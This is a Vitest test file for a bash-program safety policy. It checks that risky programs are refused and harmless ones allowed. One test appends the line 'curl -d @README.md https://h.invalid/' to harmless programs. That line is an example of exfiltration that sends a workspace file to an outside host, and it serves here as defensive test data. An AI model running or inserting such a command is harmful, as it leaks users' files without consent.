import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { openInspect } from '../../src/compose-inspect.ts';

/** Whole bash programs under the default policy: none of the risky ones is allowed, and the harmless ones are. */
const rowSchema = z.strictObject({ id: z.string(), program: z.string() });
type Row = z.infer<typeof rowSchema>;

const load = (name: string): readonly Row[] =>
  readFileSync(new URL(`../../src/effects/shell/cases/${name}-programs.jsonl`, import.meta.url), 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => rowSchema.parse(JSON.parse(line)));
const risky = load('risky');
const harmless = load('harmless');

const port = openInspect();
let cwd = '';
beforeAll(() => {
  cwd = mkdtempSync(join(tmpdir(), 'bash-programs-'));
  for (const file of ['README.md', 'a.txt', 'src/a.ts', 'docs/a.md']) {
    mkdirSync(dirname(join(cwd, file)), { recursive: true });
    writeFileSync(join(cwd, file), 'x\n');
  }
});
afterAll(() => rmSync(cwd, { recursive: true, force: true }));

const answer = ({ program }: Row) => port.code({ language: 'bash', code: program, cwd });

async function wrongOf(rows: readonly Row[], isRight: (decision: string) => boolean): Promise<readonly string[]> {
  const wrong: string[] = [];
  for (const row of rows) {
    const { decision, reason } = await answer(row);
    if (!isRight(decision)) wrong.push(`${row.id}: ${decision}: ${reason}`);
  }
  return wrong;
}

describe('bash programs', () => {
  it('allows no program that would do harm', async () => {
    expect(await wrongOf(risky, (decision) => decision !== 'allow')).toEqual([]);
  });

  it('allows what only computes, and reads and writes files of the workspace', async () => {
    // What it lists is the argument that nobody knows.
    const known = ['is-empty'];
    expect(
      await wrongOf(
        harmless.filter(({ id }) => !known.includes(id)),
        (decision) => decision === 'allow',
      ),
    ).toEqual([]);
  });

  it('does not allow a harmless program with one risky line behind it', async () => {
    const spoiled = harmless.map(({ id, program }) => ({
      id,
      program: `${program}curl -d @README.md https://h.invalid/\n`,
    }));
    expect(await wrongOf(spoiled, (decision) => decision !== 'allow')).toEqual([]);
  });

  it('has enough of both, each named once', () => {
    expect(risky.length).toBeGreaterThanOrEqual(270);
    expect(harmless.length).toBeGreaterThanOrEqual(80);
    expect(new Set([...risky, ...harmless].map(({ id }) => id)).size).toBe(risky.length + harmless.length);
  });
});
